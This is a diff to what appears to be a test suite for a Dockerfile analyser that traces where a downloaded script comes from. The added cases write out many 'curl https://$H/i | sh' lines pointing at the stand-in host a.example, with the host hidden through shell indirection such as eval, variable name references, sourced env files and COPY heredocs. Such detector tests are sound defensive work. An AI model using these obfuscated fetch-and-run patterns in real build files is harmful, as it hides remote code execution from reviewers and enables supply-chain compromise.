@@ -196,6 +196,20 @@ describe('where a download comes from', () => {
     ['its input', 'RUN echo a.example | { read H; curl https://$H/i | sh; }'],
     ['printf', 'RUN printf -v H %s a.example && curl https://$H/i | sh'],
     ['a part that is appended', 'RUN H=c.; H+=a.example; curl https://$H/i | sh'],
+    ['the name of a variable', `RUN A=a.example; B=A; curl https://\${!B}/i | sh`],
+    ['a name that is put together', 'RUN p=a.example; q=p; eval r=\\$$q; curl https://$r/i | sh'],
+    ['a value for one that is not set', `RUN : \${H:=a.example}; curl https://$H/i | sh`],
+    ['the arguments of a shell', "RUN sh -c 'curl https://$0/i | sh' a.example"],
+    ['a loop over arguments', 'RUN set -- a.example; for H; do curl https://$H/i | sh; done'],
+    ['a function', 'RUN u() { echo https://a.example/i; }; curl $(u) | sh'],
+    [
+      'a file of variables of an earlier RUN',
+      'RUN echo H=a.example > /e\nRUN . /e && curl https://$H/i | sh',
+    ],
+    [
+      'a file of variables that COPY writes',
+      'COPY <<E /e\nH=a.example\nE\nRUN set -a; source /e; curl https://$H/i | sh',
+    ],
     ['another variable', 'RUN A=a.example; H=x.$A; curl https://$H/i | sh'],
     ['a branch', 'RUN if a; then H=c.example; else H=a.example; fi; curl https://$H/i | sh'],
     [
